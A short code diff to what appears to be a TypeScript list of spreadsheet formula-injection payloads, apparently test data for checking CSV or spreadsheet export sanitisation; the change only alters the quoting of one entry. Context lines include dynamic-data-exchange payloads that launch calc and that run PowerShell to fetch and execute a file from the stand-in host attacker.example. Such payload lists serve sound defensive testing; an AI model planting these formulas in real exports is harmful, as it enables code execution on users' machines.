@@ -10,7 +10,7 @@ export const injectionPayloads: readonly string[] = [
   '@SUM(1+1)',
   '=1+1";=1+1',
   '=1+1;=1+1',
-  "=1+1'\" ;,",
+  '=1+1\'" ;,',
   // Programs, by dynamic data exchange.
   "=cmd|' /C calc'!A0",
   "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
